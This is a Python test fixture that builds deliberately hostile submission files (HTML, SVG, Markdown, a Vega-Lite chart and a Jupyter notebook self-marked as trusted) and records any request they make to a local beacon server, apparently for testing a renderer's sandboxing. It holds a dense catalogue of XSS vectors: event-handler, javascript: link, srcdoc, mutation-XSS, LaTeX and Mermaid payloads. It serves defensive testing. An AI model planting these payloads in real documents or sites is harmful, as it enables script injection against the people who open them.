"""Files as a hostile candidate would hand them in: each tries to run a script and to reach a server outside."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import nbformat.v4 as nb

RAN = "a script ran"
"""What a script that runs says to the console."""


class Beacon:
    """The candidate's server: whatever arrives there has left."""

    def __init__(self, server: ThreadingHTTPServer) -> None:
        self.url = f"http://127.0.0.1:{server.server_port}"
        self.reached: list[str] = []


@contextmanager
def beacon() -> Iterator[Beacon]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.reached.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            """Nothing: it is all in `reached`."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found = Beacon(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def markup(url: str, where: str) -> str:
    """HTML that tries by every means to run something and to load something."""
    act = f"console.log('{RAN}: {where}');new Image().src='{url}/script-{where}'"
    return f"""<h1>Handed in: {where}</h1>
<script>{act}</script>
<script src="{url}/{where}.js"></script>
<img src="x-none" onerror="{act}">
<img src="{url}/{where}-image.png" srcset="{url}/{where}-set.png 2x">
<svg xmlns="http://www.w3.org/2000/svg" onload="{act}"><script>{act}</script>
<image href="{url}/{where}-in-svg.png" width="1" height="1"/></svg>
<link rel="stylesheet" href="{url}/{where}.css"><link rel="preload" as="image" href="{url}/{where}-preload.png">
<style>@import "{url}/{where}-import.css"; body {{ background: url({url}/{where}-background.png) }}</style>
<div style="background-image: url({url}/{where}-style.png); height: 9px">.</div>
<iframe src="{url}/{where}-frame"></iframe><iframe srcdoc="&lt;script&gt;{act}&lt;/script&gt;"></iframe>
<object data="{url}/{where}-object"></object><embed src="{url}/{where}-embed">
<video src="{url}/{where}-video" autoplay></video><audio src="{url}/{where}-audio" autoplay></audio>
<base href="{url}/"><meta http-equiv="refresh" content="0; url={url}/{where}-refresh">
<form action="{url}/{where}-form"><input autofocus onfocus="{act}"><button>Go</button></form>
<a href="javascript:{act}">A link</a><details open ontoggle="{act}">.</details>
<math><mtext><table><mglyph><style><img src=x onerror="{act}"></style></mglyph></table></mtext></math>
"""


def vega(url: str) -> dict[str, Any]:
    """A chart whose data are elsewhere."""
    return {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"url": f"{url}/chart.csv"},
        "mark": "bar",
        "encoding": {"x": {"field": "a"}, "y": {"field": "b"}},
    }


def notebook(url: str) -> str:
    """Markdown, every kind of output, widgets with a saved state; and it says of itself that it is trusted."""
    act = f"console.log('{RAN}: javascript');new Image().src='{url}/javascript'"
    view = {"model_id": "11111111111111111111111111111111", "version_major": 2, "version_minor": 0}
    outputs = [
        {"text/html": markup(url, "output")},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{markup(url, 'drawing')}</svg>"},
        {"application/javascript": act},
        {"text/markdown": markup(url, "answer") + f"![picture]({url}/answer-markdown.png)"},
        {"text/latex": rf"$\href{{javascript:{act}}}{{x}} \unicode{{<img src=x onerror={act}>}}$"},
        {"application/vnd.vegalite.v5+json": vega(url)},
        {"application/vnd.jupyter.widget-view+json": view, "text/html": markup(url, "widget")},
        {"application/json": {"<img src=x onerror=alert(1)>": markup(url, "json")}},
    ]
    cell = nb.new_code_cell(markup(url, "code"), metadata={"trusted": True}, execution_count=1)  # type: ignore[no-untyped-call]
    cell.outputs = [nb.new_output("display_data", data=data) for data in outputs]  # type: ignore[no-untyped-call]
    mermaid = f'```mermaid\ngraph TD\nA["{markup(url, "label")[:300]}"]\nclick A "javascript:{act}"\n```'
    text = (
        f"{markup(url, 'markdown')}\n\n![picture]({url}/markdown-picture.png)\n\n[link](javascript:{act})\n\n{mermaid}"
    )
    book = nb.new_notebook(cells=[nb.new_markdown_cell(text), cell])  # type: ignore[no-untyped-call]
    model = {"model_module": "@jupyter-widgets/controls", "model_name": "HTMLModel", "model_module_version": "2.0.0"}
    state = {view["model_id"]: {**model, "state": {"value": markup(url, "widget-state")}}}
    book.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": state}}
    return json.dumps(book)


def files(url: str) -> dict[str, str]:
    """By name, in the order in which they are opened."""
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">{markup(url, "picture")}</svg>'
    return {
        "page.html": markup(url, "page"),
        "picture.svg": drawing,
        "notes.md": markup(url, "notes") + f"\n\n![picture]({url}/notes.png)\n",
        "chart.vl.json": json.dumps(vega(url)),
        "work.ipynb": notebook(url),
    }
